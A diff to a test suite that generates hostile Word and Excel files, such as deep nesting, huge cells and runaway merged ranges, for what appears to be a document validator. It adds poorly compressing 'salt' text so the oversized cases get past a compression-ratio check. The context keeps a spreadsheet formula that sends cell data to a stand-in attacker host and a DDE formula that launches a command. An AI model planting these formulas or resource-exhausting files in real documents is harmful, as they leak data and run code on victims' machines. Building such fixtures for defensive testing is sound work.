@@ -5,6 +5,9 @@ import { cell, docxOf, docxWith, goodDocx, goodWorkbook, sheetOf } from './offic
 import { times } from './pdf-parts.js';
 
 const MEGABYTE = 2 ** 20;
+
+/** Letters that hardly pack, so that a file is not refused for how far it unpacks. */
+const salt = (index: number): string => (Math.imul(index + 1, 0x9e37_79b1) >>> 0).toString(36);
 const DIRECTORY_ENTRY = Buffer.from('PK\u0001\u0002', 'latin1');
 const END = Buffer.from('PK\u0005\u0006', 'latin1');
 
@@ -107,20 +110,22 @@ const MARKUP: readonly HostileFile[] = [
   ),
   hostileFile('a DOCX with macros', () => docxWith({ 'word/vbaProject.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') })),
   hostileFile('a DOCX of 50,000 nested elements', () =>
-    docxOf(`${'<w:sdt><w:sdtContent>'.repeat(50_000)}${paragraph('deep')}${'</w:sdtContent></w:sdt>'.repeat(50_000)}`),
+    docxOf(
+      `${times(50_000, (index) => `<w:sdt a="${salt(index)}"><w:sdtContent>`)}${paragraph('deep')}${'</w:sdtContent></w:sdt>'.repeat(50_000)}`,
+    ),
   ),
   hostileFile('a DOCX of 300 tables in tables', () =>
     docxOf(`${'<w:tbl><w:tr><w:tc>'.repeat(300)}${paragraph('deep')}${'</w:tc></w:tr></w:tbl>'.repeat(300)}`),
   ),
   hostileFile('a DOCX of 100,000 paragraphs', () => docxOf(times(100_000, (index) => paragraph(`line ${index}`)))),
   hostileFile('a DOCX of 50,000 hidden runs', () =>
-    docxOf(`<w:p>${times(50_000, () => '<w:r><w:rPr><w:vanish/></w:rPr><w:t>Total 1.00</w:t></w:r>')}</w:p>`),
+    docxOf(`<w:p>${times(50_000, (index) => `<w:r><w:rPr><w:vanish/></w:rPr><w:t>Total ${salt(index)}</w:t></w:r>`)}</w:p>`),
   ),
   hostileFile('a DOCX of runs that never end', () => docxOf('<w:p>'.concat('<w:r><w:rPr><w:vanish/></w:rPr><w:t>x'.repeat(20_000)))),
   hostileFile('a DOCX whose cell spans a billion columns', () =>
     docxOf(`<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>${paragraph('wide')}</w:tc></w:tr></w:tbl>`),
   ),
-  hostileFile('a DOCX with one word of five million letters', () => docxOf(paragraph('A'.repeat(5_000_000)))),
+  hostileFile('a DOCX with one word of five million letters', () => docxOf(paragraph(times(800_000, salt)))),
   hostileFile('a DOCX with an element of 50,000 attributes', () =>
     docxOf(`<w:p ${times(50_000, (index) => `a${index}="x" `)}><w:r><w:t>x</w:t></w:r></w:p>`),
   ),
@@ -145,17 +150,27 @@ const SHEETS: readonly HostileFile[] = [
   ),
   hostileFile('a cell in row 99,999,999,999', () => sheetOf(`<row r="99999999999">${cell('ZZZZZZ99999999999', 'far')}</row>`)),
   hostileFile('a cell in row -5', () => sheetOf(`<row r="-5">${cell('A-5', 'before')}</row>`)),
-  hostileFile('100,000 cells in one row', () => sheetOf(`<row r="1">${times(100_000, () => '<c><v>7</v></c>')}</row>`)),
+  hostileFile('100,000 cells in one row', () => sheetOf(`<row r="1">${times(100_000, (index) => `<c><v>${index * 7919}</v></c>`)}</row>`)),
   hostileFile('55,000 cells, just below the limit', () =>
     sheetOf(times(550, (row) => `<row r="${row + 1}">${times(100, () => '<c><v>7</v></c>')}</row>`)),
   ),
   hostileFile('100,000 merged ranges over the whole sheet', () =>
-    sheetOf(`<row r="1">${cell('A1', 'a')}</row>`, `<mergeCells>${times(100_000, () => '<mergeCell ref="A1:XFD1048576"/>')}</mergeCells>`),
+    sheetOf(
+      `<row r="1">${cell('A1', 'a')}</row>`,
+      `<mergeCells>${times(100_000, (index) => `<mergeCell ref="A${1 + (index % 900)}:XFD${1_048_576 - index}"/>`)}</mergeCells>`,
+    ),
   ),
   hostileFile('hidden columns to the end of the world', () =>
     sheetOf(`<row r="1">${cell('A1', 'a')}</row>`, '<cols><col min="1" max="999999999" hidden="1"/></cols>'),
   ),
-  hostileFile('a cell of three million letters', () => sheetOf(`<row r="1">${cell('A1', 'B '.repeat(1_500_000))}</row>`)),
+  hostileFile('a cell of three million letters', () =>
+    sheetOf(
+      `<row r="1">${cell(
+        'A1',
+        times(400_000, (index) => `${salt(index)} `),
+      )}</row>`,
+    ),
+  ),
   hostileFile('formulas that fetch and start', () =>
     sheetOf(
       `<row r="1"><c r="A1"><f>WEBSERVICE("http://attacker.test/?"&amp;A2)</f><v>1</v></c><c r="B1"><f>cmd|'/c calc'!A0</f><v>2</v></c></row>`,
